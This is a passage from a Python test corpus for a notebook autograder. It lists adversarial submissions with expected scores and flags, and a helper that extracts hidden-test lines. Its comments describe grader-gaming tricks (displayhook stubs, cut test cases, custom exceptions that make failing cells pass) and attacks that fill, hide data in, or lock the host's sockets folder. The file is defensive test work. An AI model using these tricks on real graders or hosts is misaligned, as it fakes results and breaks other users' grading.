    # control: a full house "is not a pair": fails only the visible K♥ K♦ K♣ 3♠ 3♥ → True
    # (the hidden cases pass): step3_has_pair 0 → 97
    "pair_not_in_full_house": (made(base, swap("step3_has_checks", PAIR_RIGHT,
                                               PAIR_NOT_IN_FULL_HOUSE)),
                               Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100 (the visible case it fails is cut from the kit's own table of cases). A
    # judge: 97, its cases are its own
    "cases_cut": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_NOT_IN_FULL_HOUSE),
                       add("step3_has_checks", CASES_CUT)),
                  Expect(97, "graded", "", ("step3_has_pair",))),
    # today: 100 (no error output, an "ok" reply: every failing test cell passes). A judge: 97
    "custom_exc": (made(base, swap("step3_has_checks", PAIR_RIGHT, PAIR_AT_LEAST_TWO),
                        add("step3_has_checks", CUSTOM_EXC)),
                   Expect(97, "graded", "", ("step3_has_pair",))),
    # found by the attack review: the sockets folder is the one host folder a kernel can write.
    # Graded as an ordinary user (this batch), a watch kills the kernel past file_bytes and
    # grading stops there, with no kernel left for the hidden checks, which run after the last
    # cell, nor for the runs of the student's own tests, each in a kernel of its own after
    # them: every graded cell scores 0; as root the folder is locked first.
    "fill_sockets_folder": (made(base, add("step5_tableau", FILL_SOCKETS)),
                            Expect(0, "flagged", "into its sockets folder on the host",
                                   ("step5_toggle_selection", "step5_move_selected"))),
    # found by an attack review of the sockets folder: the watch walked the folder skipping
    # what it could not list: 300 MB (any amount, up to the disk) in a folder the kernel made
    # unlistable went unseen and the submission scored 100, graded. Part of the folder
    # unreadable is now killed as an overflow is
    "hidden_in_sockets_folder": (made(base, add("step5_tableau", HIDE_IN_SOCKETS)),
                                 Expect(0, "flagged", "unreadable to the grader",
                                        ("step5_toggle_selection", "step5_move_selected"))),
    # found by the same review: the kernel made its sockets folder unreadable (mode 0), and
    # every later submission of its worker, whose kernels use the same folder, scored 0,
    # flagged "nbgrader could not autograde this notebook: PermissionError"; the folder's mode
    # is now set anew before every start, and the watch kills the kernel that did it
    "closed_sockets_folder": (made(base, add("step5_tableau", CLOSE_SOCKETS)),
                              Expect(0, "flagged", "unreadable to the grader",
                                     ("step5_toggle_selection", "step5_move_selected"))),
}

# each trick and the same code without it: a judge must score them alike, cell by cell
SAME_AS = {
    "displayhook_stub": "untouched",
    "always_true_displayhook": "always_true_pair",
    "wrong_pair_transformer": "wrong_pair",
    "wrong_pair_code_swap": "wrong_pair",
    "wrong_pair_frames": "wrong_pair",
    "wrong_mult_table": "wrong_mult",
    "above_setup_transformer": "wrong_pair",
    "above_setup_code_swap": "wrong_pair",
    "above_setup_frames": "wrong_pair",
    "above_setup_table": "wrong_mult",
    "trace_rewrite": "wrong_pair",
    "cases_cut": "pair_not_in_full_house",
    "custom_exc": "wrong_pair",
}

# graded in a grader process whose locale is plain ASCII (LC_ALL=C, PYTHONUTF8=0)
NON_UTF8 = ("suits_non_utf8_locale",)
# graded one at a time, each alone in a child process whose peak memory is measured
ALONE = ("iopub_flood", "iopub_flood_replayed", "iopub_flood_in_call")


def build(kind: str, root: Path) -> bytes:
    """Return the submitted file's bytes for ``kind``; raises KeyError for an unknown kind."""
    return CORPUS[kind][0](root)


def hidden_lines(source_notebook: Path, min_length: int = 10) -> list[str]:
    """Return the hidden tests' lines (stripped, at least ``min_length`` long) of a source
    notebook: what feedback must never show. A line that is also written outside hidden
    tests (``return counts`` is in a hidden buggy version and in the solution a student
    writes) is left out: seeing it tells nothing hidden."""
    lines, shown = [], set()
    for each in json.loads(source_notebook.read_text(encoding="utf-8"))["cells"]:
        inside = False
        for line in "".join(each["source"]).splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "END HIDDEN TESTS" in line:
                inside = False
            elif inside and len(line.strip()) >= min_length:
                lines.append(line.strip())
            elif not inside:
                shown.add(line.strip())
    return [line for line in lines if line not in shown]
